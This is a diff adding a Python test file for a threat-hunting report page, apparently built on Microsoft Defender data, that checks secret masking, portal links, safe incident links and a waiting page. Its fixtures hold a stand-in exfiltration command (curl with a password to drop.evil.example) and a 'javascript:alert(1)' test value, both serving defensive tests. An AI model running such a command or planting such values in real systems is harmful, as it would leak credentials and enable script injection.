@@ -1,0 +1,120 @@
+"""What a run's page, its rows and its CSV say: secrets masked as MASK_SECRETS says, and links to the query."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+from datetime import timedelta
+from typing import Any
+
+import msgspec
+import pytest
+from msgspec.structs import replace
+
+from shared.enrichment import planning
+from shared.entities.choosing import Chosen, Device, Dropped, Indicator
+from shared.kql import write as kql
+from shared.model.record import Done, Plan, PlannedHunt, Wait, Work
+from shared.outcomes.reading import Found, Group
+from shared.pages import run as report
+from shared.settings import Settings
+from shared.state.runs import Run
+from tests.support.said import DEVICE, HUNTS, NOW, RUN_ID, WINDOW, outcome
+
+HUNT = "archive-then-upload"
+SECRET = "hunter2secret"
+COMMAND = f"curl --password={SECRET} https://drop.evil.example"
+# Defender's dynamic columns are objects, lists, or text.
+ROW: dict[str, Any] = {
+    "NetCmd": COMMAND,
+    "Fields": {"token": SECRET, "n": 1},
+    "Tags": ["a"],
+    "RemotePort": 443,
+}
+COLUMNS = tuple(ROW)
+RAW = msgspec.json.encode({"schema": [{"name": name, "type": "x"} for name in ROW], "results": [ROW]})
+EVERY_SETTING = pytest.mark.parametrize("mask", ["on", "off"])
+
+
+def run() -> Run:
+    """A run with a secret in every value that came from outside."""
+    group = Group((COMMAND,), 1, "2026-03-09T02:14:05Z", "2026-03-09T02:14:05Z")
+    found = Found(HUNT, rows=1, columns=COLUMNS, shown=("NetCmd",), groups=(group,), group_count=1)
+    chosen = Chosen(
+        (DEVICE,),
+        (Indicator("url", f"drop.evil.example/?sig={SECRET}"),),
+        (Dropped("url", f"https://u:{SECRET}@drop.evil.example/", "a private address"),),
+    )
+    done = Done("completed", f"1 hunt for ?sig={SECRET}", NOW, (replace(outcome("found"), found=found),))
+    plan = Plan("1", COMMAND, "https://security.microsoft.com/incident2/1", chosen)
+    return Run(Work(RUN_ID, NOW, "digest"), plan, done=done)
+
+
+@EVERY_SETTING
+def test_page_masks(mask: str) -> None:
+    """The page shows what looks like a secret only with MASK_SECRETS=off, wherever it stands."""
+    page = report.page(run(), HUNTS, Settings(mask_secrets=mask), refresh=False)  # type: ignore[arg-type]
+
+    # The verdict, in the title and the heading; the incident, the row, the indicator, and what was dropped.
+    assert {"on": 0, "off": 6}[mask] == page.count(SECRET)
+
+
+@EVERY_SETTING
+def test_rows_mask(mask: str) -> None:
+    """The rows hide what the CSV hides: also in objects, which become text only where they hold a secret."""
+    secrets = mask == "on"
+    body = report.rows(RAW, 10, secrets=secrets)
+    text = report.csv(RAW, 10, secrets=secrets).decode("utf-8-sig")
+    head, row = csv.reader(io.StringIO(text, newline=""))
+
+    assert list(COLUMNS) == body["columns"] == head
+    assert {"on": 0, "off": 2}[mask] == str(body).count(SECRET) == text.count(SECRET)
+    assert ("443", '["a"]') == (row[3], row[2])
+    if secrets:
+        assert {"NetCmd": "curl --password=*** https://drop.evil.example", "Fields": '{"token": ***, "n": 1}',
+                "Tags": ["a"], "RemotePort": 443} == body["rows"][0]  # fmt: skip
+    else:
+        assert [ROW] == body["rows"]
+
+
+def test_portal() -> None:
+    """The link to Advanced Hunting holds the query that was run, with the entities of its own hunt."""
+    own = Chosen((Device(name="srv-8.contoso.com"),))
+    planned = run()
+    assert planned.plan
+    plan = replace(planned.plan, hunts=(PlannedHunt(HUNT, WINDOW, own),))
+    page = report.page(replace(planned, plan=plan), HUNTS, Settings(), refresh=False)
+    query = planning.query(HUNTS.by_name[HUNT], own, Settings().max_rows + 1)
+    link = kql.portal_link(query, Settings().cloud.portal)
+
+    assert link
+    assert f'href="{html.escape(link)}"' in page
+
+
+@pytest.mark.parametrize(
+    ("url", "links"), [("https://security.microsoft.com/incident2/1", 1), ("javascript:alert(1)", 0), ("", 0)]
+)
+def test_incident(url: str, links: int) -> None:
+    """The incident is a link where its address is one of the web's."""
+    ended = run()
+    assert ended.plan
+    page = report.page(
+        replace(ended, plan=replace(ended.plan, incident_url=url)), HUNTS, Settings(), refresh=False
+    )
+
+    assert links == page.count(">1</a>")
+    assert "javascript" not in page
+
+
+def test_waiting() -> None:
+    """A run that is not done says why, how far it is, and loads itself again."""
+    plan = Plan(hunts=(PlannedHunt(HUNT, WINDOW), PlannedHunt("file-origin", WINDOW)))
+    wait = Wait("Graph allows no more calls", NOW + timedelta(minutes=5))
+    found = {"file-origin": Found("file-origin"), "device-card": Found("device-card")}
+    page = report.page(Run(Work(RUN_ID, NOW, "x"), plan, found, wait), HUNTS, Settings(), refresh=True)
+
+    assert "<h1>Waiting</h1>" in page
+    assert "Graph allows no more calls" in page
+    assert "1 of 2 hunts have answered." in page
+    assert '<meta http-equiv="refresh" content="5">' in page
